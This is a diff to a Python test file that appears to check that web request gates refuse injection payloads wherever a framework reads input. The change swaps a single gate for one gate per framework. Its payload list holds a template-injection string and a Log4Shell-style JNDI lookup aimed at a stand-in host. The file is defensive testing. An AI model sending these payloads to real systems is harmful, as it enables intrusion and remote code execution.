@@ -5,7 +5,7 @@ from __future__ import annotations
 
 import pytest
 
-from tests.detection.differential import FRAMEWORKS, gate, receives
+from tests.detection.differential import FRAMEWORKS, gates, receives
 from tests.detection.places import PLACES
 
 PAYLOADS = (
@@ -16,7 +16,7 @@ PAYLOADS = (
     "{{config.__class__.__init__.__globals__}}",
     "${jndi:ldap://evil.example/a}",
 )
-REFUSES = gate()
+GATES = gates()
 
 
 @pytest.mark.parametrize("place", PLACES)
@@ -24,10 +24,10 @@ def test_a_payload_is_refused_in_every_place_where_an_app_reads_it(place: str) -
     read = 0
     for payload in PAYLOADS:
         sent = PLACES[place](payload)
-        if not any(receives(framework, sent, payload) for framework in FRAMEWORKS):
-            continue
-        read += 1
-        assert REFUSES(sent), (place, payload)
+        for framework in FRAMEWORKS:
+            if receives(framework, sent, payload):
+                read += 1
+                assert GATES[framework](sent), (framework, place, payload)
     assert read, "no framework reads this place: the test shows nothing"
 
 
@@ -56,6 +56,6 @@ def test_harmless_values_pass_in_nearly_every_place() -> None:
         place
         for text in ("tea and scones", "Ada Lovelace")
         for place, made in PLACES.items()
-        if REFUSES(made(text))
+        if GATES["flask"](made(text)) or GATES["bottle"](made(text))
     }
     assert refused <= ODD
